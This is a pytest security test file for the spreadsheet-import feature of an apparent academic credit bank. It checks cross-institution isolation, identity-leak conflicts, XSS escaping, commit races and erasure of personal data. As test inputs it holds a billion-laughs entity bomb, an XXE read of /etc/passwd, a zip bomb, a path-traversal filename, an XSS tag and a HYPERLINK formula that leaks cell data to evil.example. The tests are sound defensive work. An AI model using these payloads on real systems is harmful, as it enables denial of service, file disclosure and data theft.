"""Attacks through spreadsheet imports: other institutions' imports, identity linking, hostile files, XSS, races,
personal data kept after erasure, and what the ledger receives.

A passing test is a defence that held; an ``xfail(strict=True)`` test is an open finding.
"""

from __future__ import annotations

import io
import json
import re
import threading
import zipfile
from datetime import date

from sqlalchemy import select

from creditbank.models import LedgerBody, LedgerEntry, SpreadsheetImport
from creditbank.services import imports
from creditbank.services.records import learners
from creditbank.services.staff import accounts
from tests.attack.test_console_attack_access import enroll, writer
from tests.console.staff_helpers import csrf, staff_member
from tests.console.test_import_pages import (
    cn_id,
    csv_file,
    ledger_size,
    row,
    settled,
    state_of,
    upload,
    xlsx_file,
)
from tests.helpers import register

ID1 = cn_id("11010519550500001")


def registrars(bank, app):
    register(bank, "uni-a", name_zh="甲大学")
    register(bank, "uni-b", name_zh="乙大学")
    a = staff_member(bank, app.test_client(), "reg.a", "registrar", "uni-a")
    b = staff_member(bank, app.test_client(), "reg.b", "registrar", "uni-b")
    for signed in (a, b):
        signed.client.get("/lang/en")
    return a, b


def principal_of(bank, signed):
    member = accounts.get(bank, signed.staff_id)
    assert member is not None
    return member.principal()


def stored(bank, import_id: str) -> SpreadsheetImport:
    with bank.db.reading() as session:
        found = session.get(SpreadsheetImport, import_id)
        assert found is not None
        session.expunge(found)
        return found


def problem_cells(page: str) -> list[str]:
    return re.findall(r"<tr><td>row \d+</td>\s*<td>[^<]*</td><td>([^<]+)</td></tr>", page)


# --- another institution's imports ------------------------------------------------------------------------------


def test_another_institutions_import_is_not_found_for_any_act(bank, app):
    a, b = registrars(bank, app)
    theirs = upload(a, csv_file([row(1)]), "a-term.csv")
    settled(bank, a, theirs)
    assert state_of(bank, a, theirs) == "ready"
    before = ledger_size(bank)
    assert b.client.get(f"/staff/imports/{theirs}").status_code == 404
    assert theirs not in b.page("/staff/imports")
    token = csrf(b.page("/staff/imports"))
    for act in ("commit", "discard", "letters.pdf"):
        answer = b.client.post(f"/staff/imports/{theirs}/{act}", data={"csrf_token": token})
        assert answer.status_code == 404, act
    assert state_of(bank, a, theirs) == "ready"
    assert ledger_size(bank) == before


# --- identity linking through a file ----------------------------------------------------------------------------


def test_an_identity_mismatch_is_an_opaque_conflict_that_shows_nothing_of_the_person(bank, app):
    _a, b = registrars(bank, app)
    theirs = learners.enroll(
        bank,
        writer("uni-a"),
        learners.LearnerInput(date(1955, 5, 17), "秘密名", "Secret Person", "CN", ID1, "secret@a.example"),
    ).body["id"]
    before = ledger_size(bank)
    texts = []
    for changes in ({}, {"Chinese name": "秘密名", "Latin name": "Secret Person", "Birth date": "1956-01-01"}):
        imported = upload(b, csv_file([row(1, **changes)]), "b-term.csv")
        page = settled(bank, b, imported)
        assert state_of(bank, b, imported) == "invalid"
        for secret in (
            "秘密名" if not changes else "",
            "Secret Person" if not changes else "",
            "secret@a",
            theirs,
            "1955-05-17" if changes else "",
            "uni-a",
            "甲大学",
        ):
            if secret:
                assert secret not in page, secret
        texts.append(problem_cells(page))
        token = csrf(page)
        assert b.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": token}).status_code == 409
    # a wrong name and a wrong birth date are told apart by nothing
    assert texts[0] == texts[1]
    assert len(texts[0]) == 1
    assert ledger_size(bank) == before
    assert b.client.get(f"/staff/learners/{theirs}").status_code == 404


def test_a_linked_learner_gets_no_letter_and_the_linker_sees_only_its_own_submission(bank, app):
    _a, b = registrars(bank, app)
    theirs = learners.enroll(
        bank,
        writer("uni-a"),
        learners.LearnerInput(date(1955, 5, 17), "学员1", "Learner 1", "CN", ID1, "first@a.example"),
    ).body["id"]
    imported = upload(b, csv_file([row(1, **{"Chinese name": ""}), row(2)]), "b-term.csv")
    page = settled(bank, b, imported)
    assert state_of(bank, b, imported) == "ready", page
    b.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": csrf(page)})
    page = settled(bank, b, imported, ("written", "invalid"))
    assert state_of(bank, b, imported) == "written", page
    row_of = stored(bank, imported)
    assert theirs not in json.loads(row_of.letter_learners)
    assert theirs not in json.loads(row_of.created_learners)
    learner_page = b.page(f"/staff/learners/{theirs}")
    assert "first@a.example" not in learner_page
    assert "学员1" not in learner_page  # uni-b left the Chinese name out
    # the letters print only row 2's new learner; the linked one (uni-a's) gets no code from uni-b
    codes_before = codes_of(bank, theirs)
    letters = b.client.post(f"/staff/imports/{imported}/letters.pdf", data={"csrf_token": csrf(page)})
    assert letters.status_code == 200
    assert letters.headers["Content-Type"] == "application/pdf"
    assert codes_of(bank, theirs) == codes_before


def codes_of(bank, learner_id: str) -> list[tuple[object, ...]]:
    from creditbank.models import ActivationCode

    with bank.db.reading() as session:
        rows = session.scalars(select(ActivationCode).where(ActivationCode.learner_id == learner_id)).all()
        return sorted(
            tuple(str(value) for value in vars(row).values() if not str(value).startswith("<")) for row in rows
        )


# --- hostile files ------------------------------------------------------------------------------------------------


def _with_part(data: bytes, member: str, replace) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == member:
                content = replace(content)
            target.writestr(info.filename, content)
    return out.getvalue()


def _sheet_member(data: bytes) -> str:
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    return next(name for name in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name))


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def test_hostile_files_fail_cleanly_and_write_nothing(bank, app):
    a, _b = registrars(bank, app)
    good = xlsx_file([row(1)])
    sheet = _sheet_member(good)

    def with_dtd(prefix: bytes):
        def change(content: bytes) -> bytes:
            body = re.sub(rb"^<\?xml[^>]*\?>", b"", content)
            return prefix + body.replace(b"<sheetData>", b"<sheetData>", 1)

        return change

    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in zipfile.ZipFile(io.BytesIO(good)).infolist():
            archive.writestr(info.filename, zipfile.ZipFile(io.BytesIO(good)).read(info.filename))
        archive.writestr("xl/media/bomb.bin", b"\0" * (200 * 1024 * 1024))
    files = [
        (_with_part(good, sheet, with_dtd(LAUGHS)), "laughs.xlsx"),
        (_with_part(good, sheet, with_dtd(EXTERNAL)), "xxe.xlsx"),
        (_with_part(good, "[Content_Types].xml", with_dtd(LAUGHS)), "types.xlsx"),
        (bomb.getvalue(), "bomb.xlsx"),
        (csv_file([row(n) for n in range(1, 10_002)]), "too-many.csv"),
        (csv_file([row(1)])[:-7] + b"\xff\xfe\x00\x80", "mixed.csv"),
        ("名字,x\r\n".encode("utf-16") + b"\x00\xd8", "utf16.csv"),
        (b"\xef\xbb\xbf" + b'"' * 100_000, "quotes.csv"),
    ]
    before = ledger_size(bank)
    for data, name in files:
        imported = upload(a, data, name)
        page = settled(bank, a, imported)
        state = state_of(bank, a, imported)
        assert state in ("failed", "invalid"), (name, state)
        assert 'role="alert"' in page, name
        assert "root:" not in page
        assert stored(bank, imported).file_data is None, name
    assert ledger_size(bank) == before


def test_formulas_and_path_names_are_not_taken_as_given(bank, app):
    a, _b = registrars(bank, app)
    payload = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    imported = upload(a, csv_file([row(1, **{"Title (English)": payload})]), "../../../etc/passwd\\..\\x.csv")
    page = settled(bank, a, imported)
    name = stored(bank, imported).filename
    assert "/" not in name
    assert "\\" not in name
    assert name != ".."
    assert "etc/passwd" not in page


# --- XSS through what a file brings -----------------------------------------------------------------------------


def test_names_titles_and_file_names_are_escaped_on_every_page(bank, app):
    a, _b = registrars(bank, app)
    evil = '<img src=x onerror="alert(1)">'
    file_name = f"{evil}.csv"
    rows = [row(1, **{"Latin name": "Mc<b>Evil</b>", "Title (English)": f"T{evil}", "Title (Chinese)": f"课{evil}"})]
    imported = upload(a, csv_file(rows), file_name)
    page = settled(bank, a, imported)
    pages = [page, a.page("/staff/imports")]
    if state_of(bank, a, imported) == "ready":
        a.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": csrf(page)})
        settled(bank, a, imported, ("written", "invalid"))
        learner_id = json.loads(stored(bank, imported).created_learners)[0]
        pages += [
            a.page(f"/staff/learners/{learner_id}"),
            a.page("/staff/learners?q=evil"),
            a.page(f"/staff/imports/{imported}"),
        ]
    for shown in pages:
        assert "<img src=x" not in shown
        assert "<b>Evil" not in shown
    assert "&lt;img src=x" in pages[0]


# --- racing two commits -----------------------------------------------------------------------------------------


def test_two_commits_of_one_import_write_it_once(bank, app):
    a, _b = registrars(bank, app)
    imported = upload(a, csv_file([row(n) for n in range(1, 6)]), "term.csv")
    settled(bank, a, imported)
    before = ledger_size(bank)
    principal = principal_of(bank, a)
    outcomes: list[object] = []
    go = threading.Barrier(3)

    def commit() -> None:
        go.wait()
        try:
            outcomes.append(imports.commit(bank, principal, imported).state)
        except Exception as error:
            outcomes.append(error)

    threads = [threading.Thread(target=commit) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    # plus one through the console while the others ran or after
    a.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": csrf(a.page(f"/staff/imports/{imported}"))})
    settled(bank, a, imported, ("written",))
    assert all(outcome in ("writing", "written") for outcome in outcomes), outcomes
    with bank.db.reading() as session:
        kinds = list(session.scalars(select(LedgerEntry.kind).where(LedgerEntry.seq >= before)))
    assert kinds.count("achievement.recorded") == 5
    assert kinds.count("learner.enrolled") == 5


# --- personal data after erasure, and the ledger ----------------------------------------------------------------


def test_erasure_leaves_no_uploaded_file_and_problems_keep_no_personal_values(bank, app):
    a, b = registrars(bank, app)
    ready = upload(a, csv_file([row(1)]), "a.csv")
    settled(bank, a, ready)
    other = upload(b, csv_file([row(2)]), "b.csv")
    settled(bank, b, other)
    bad = upload(b, csv_file([row(3, **{"E-mail": "私密@@example", "Birth date": "1800-01-01"})]), "bad.csv")
    settled(bank, b, bad)
    assert stored(bank, ready).file_data is not None
    someone = enroll(bank, "uni-a")
    learners.erase(bank, someone)
    for imported in (ready, other, bad):
        kept = stored(bank, imported)
        assert kept.file_data is None, imported
        assert kept.state in ("expired", "invalid"), kept.state
    text = stored(bank, bad).problems + stored(bank, bad).notices
    assert "私密" not in text
    assert "1800-01-01" not in text


def test_every_console_write_names_the_desk_and_no_entry_body_names_the_person(bank, app):
    a, _b = registrars(bank, app)
    before = ledger_size(bank)
    rows = [row(1, **{"E-mail": "one@example.org"}), row(2)]
    imported = upload(a, csv_file(rows), "term.csv")
    page = settled(bank, a, imported)
    a.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": csrf(page)})
    settled(bank, a, imported, ("written", "invalid"))
    assert state_of(bank, a, imported) == "written"
    learner_id = json.loads(stored(bank, imported).created_learners)[0]
    achievement = re.search(r"/staff/achievements/(\w+)/correct", a.page(f"/staff/learners/{learner_id}"))
    assert achievement
    form = {
        "kind": "course",
        "title_zh": "改",
        "title_en": "Changed",
        "credits": "3",
        "completed": "2026-01-10",
        "reason": "the credits were mistyped",
    }
    answer = a.post(f"/staff/achievements/{achievement.group(1)}/correct", form)
    assert answer.status_code == 302
    token = csrf(a.page(f"/staff/learners/{learner_id}"))
    a.client.post(f"/staff/learners/{learner_id}/credentials", data={"csrf_token": token, "kind": "transcript"})
    with bank.db.reading() as session:
        written = session.execute(
            select(LedgerEntry.actor, LedgerEntry.kind, LedgerBody.body)
            .join(LedgerBody, LedgerBody.seq == LedgerEntry.seq)
            .where(LedgerEntry.seq >= before)
        ).all()
    assert {kind for _actor, kind, _body in written} >= {
        "learner.enrolled",
        "achievement.recorded",
        "achievement.corrected",
        "credential.issued",
    }
    for actor, kind, body in written:
        if (kind, actor) == ("key.rotated", "bank:keys"):
            continue  # the issuer's signing key, made on first use by the bank itself, not a staff write
        assert actor == f"inst:uni-a/staff:{a.staff_id}", (kind, actor)
        text = bytes(body).decode("utf-8")
        for personal in ("学员", "Learner 1", "Learner 2", "1955-05-17", "one@example.org", ID1, ID1[-6:], "reg.a"):
            assert personal not in text, (kind, personal)


def _one_corrected_learner(bank, a):
    imported = upload(a, csv_file([row(1)]), "term.csv")
    page = settled(bank, a, imported)
    a.client.post(f"/staff/imports/{imported}/commit", data={"csrf_token": csrf(page)})
    settled(bank, a, imported, ("written", "invalid"))
    learner_id = json.loads(stored(bank, imported).created_learners)[0]
    achievement = re.search(r"/staff/achievements/(\w+)/correct", a.page(f"/staff/learners/{learner_id}"))
    assert achievement
    return learner_id, achievement.group(1)


def test_a_correction_reason_naming_the_learner_leaves_no_name_in_the_ledger_after_erasure(bank, app):
    a, _b = registrars(bank, app)
    learner_id, achievement = _one_corrected_learner(bank, a)
    before = ledger_size(bank)
    form = {
        "kind": "course",
        "title_zh": "改",
        "title_en": "Changed",
        "credits": "3",
        "completed": "2026-01-10",
        "reason": f"Learner 1 (学员1, ID {ID1}) asked for this",
    }
    answer = a.post(f"/staff/achievements/{achievement}/correct", form)
    assert answer.status_code in (302, 400)
    learners.erase(bank, learner_id)
    with bank.db.reading() as session:
        bodies = [
            bytes(body).decode("utf-8")
            for body in session.scalars(select(LedgerBody.body).where(LedgerBody.seq >= before))
        ]
    assert not any("Learner 1" in body or "学员1" in body or ID1 in body for body in bodies)
